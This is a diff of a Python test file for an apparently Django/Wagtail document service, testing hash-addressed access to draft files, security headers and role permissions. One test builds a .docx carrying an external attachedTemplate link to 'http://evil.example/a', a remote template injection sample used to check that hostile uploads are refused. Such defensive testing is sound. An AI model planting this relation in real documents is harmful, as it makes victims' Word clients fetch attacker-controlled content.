@@ -40,7 +40,8 @@ TODAY = date(2026, 6, 1)
 def form() -> Form:
     make_settings()
     procedure = make_edition(on=date(2026, 3, 1)).document.specific
-    return make_form(procedure, author=make_person(Role.STAFF), owner_unit=make_unit())
+    file = docx_upload(text="Đơn đề nghị")
+    return make_form(procedure, author=make_person(Role.STAFF), owner_unit=make_unit(), file=file)
 
 
 def hash_of(text: str) -> str:
@@ -87,7 +88,7 @@ def test_who_judges_or_oversees_opens_the_file_of_a_draft(role, form):
     assert hashlib.sha256(bytes_of(response)).hexdigest() == FIRST
     assert response.headers["Content-Disposition"].startswith("attachment")
     assert response.headers["X-Content-Type-Options"] == "nosniff"
-    assert response.headers["Cache-Control"] == "private, no-store"
+    assert "no-store" in response.headers["Cache-Control"]
 
 
 def test_the_head_opens_it_when_it_is_the_heads_turn(form):
@@ -108,7 +109,9 @@ def test_no_other_hash_and_no_other_document_leads_to_it(form):
         assert secretary.get(address(form, wrong)).status_code == 404
     other = make_form(form.get_parent().specific, file=docx_upload(text="Đơn mới"))
     assert secretary.get(address(other, FIRST)).status_code == 404
-    assert secretary.get(reverse("draft_file", args=[form.get_parent().pk, FIRST])).status_code == 404
+    assert (
+        secretary.get(reverse("draft_file", args=[form.get_parent().pk, FIRST])).status_code == 404
+    )
 
 
 def test_what_lies_in_storage_is_served_at_no_address_of_its_own(form):
@@ -146,7 +149,7 @@ def test_a_new_file_chosen_in_the_editor_has_a_hash_of_its_own(form):
     assert form.get_latest_revision().content["file_sha256"] == SECOND
     assert bytes_of(editor.get(address(form, SECOND))) == docx_upload(text="Đơn mới").read()
     # The earlier draft keeps its own.
-    assert bytes_of(editor.get(address(form, FIRST))) == docx_upload().read()
+    assert bytes_of(editor.get(address(form, FIRST))) == docx_upload(text="Đơn đề nghị").read()
 
 
 def test_a_hostile_file_chosen_in_the_editor_is_refused_there(form):
@@ -154,7 +157,7 @@ def test_a_hostile_file_chosen_in_the_editor_is_refused_there(form):
     url = reverse("wagtailadmin_pages:edit", args=[form.pk])
     data = form_data(editor.get(url).content.decode())
     package = related(
-        docx_upload().read(), "word/settings.xml", "attachedTemplate", "http://evil.example/a",
+        docx_upload(text="x").read(), "word/settings.xml", "attachedTemplate", "http://evil.example/a",
         external=True,
     )  # fmt: skip
     data["file"] = SimpleUploadedFile("mau.docx", package)
